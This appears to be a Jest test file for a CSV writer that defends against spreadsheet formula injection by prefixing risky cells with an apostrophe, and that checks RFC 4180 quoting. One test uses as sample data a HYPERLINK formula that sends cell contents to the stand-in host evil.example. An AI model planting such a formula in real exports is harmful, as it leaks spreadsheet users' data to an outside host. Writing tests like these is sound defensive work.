import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvText } from './csv-writer';
import { neutraliseCell, restoreCell } from './formula-cells';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('cells a spreadsheet would run as formulas', () => {
  it.each(TRIGGERS)('puts an apostrophe before text that starts with %j', (trigger) => {
    expect(neutraliseCell(`${trigger}SUM(A1:A9)`)).toBe(`'${trigger}SUM(A1:A9)`);
  });

  it('leaves other text alone, a formula sign further in included', () => {
    for (const value of ['Acme Ltd', '', ' =1+1', 'a=b', "'plain", '2026-01-31', '12']) expect(neutraliseCell(value)).toBe(value);
  });

  it('doubles the apostrophe of text that already looks neutralised, so that reading back gives every text as it was', () => {
    expect(neutraliseCell("'=1+1")).toBe("''=1+1");
    fc.assert(
      fc.property(fc.constantFrom('', "'", "''", ...TRIGGERS, ...TRIGGERS.map((trigger) => `'${trigger}`)), fc.string(), (start, rest) => {
        expect(restoreCell(neutraliseCell(start + rest))).toBe(start + rest);
      }),
    );
  });
});

describe('the CSV writer', () => {
  it('writes RFC 4180: a header, CRLF line ends, quotes only where a field needs them', () => {
    const text = csvText(['name', 'note', 'count'], [['Acme, Ltd', 'says "hi"', 3], ['Plain', null, -2]]);
    expect(text).toBe('name,note,count\r\n"Acme, Ltd","says ""hi""",3\r\nPlain,,-2\r\n');
  });

  it('neutralises every text cell that starts like a formula, and leaves numbers as numbers', () => {
    const rows = TRIGGERS.map((trigger) => [`${trigger}HYPERLINK("http://evil.example/?x="&A1,"click")`, -5]);
    const parsed = parse(csvText(['text', 'number'], rows), { columns: true }) as Array<{ text: string; number: string }>;
    expect(parsed.map((row) => row.text)).toEqual(rows.map(([text]) => `'${text}`));
    expect(parsed.every((row) => row.number === '-5')).toBe(true);
  });

  it('writes the header alone when there are no rows', () => {
    expect(csvText(['a', 'b'], [])).toBe('a,b\r\n');
  });
});
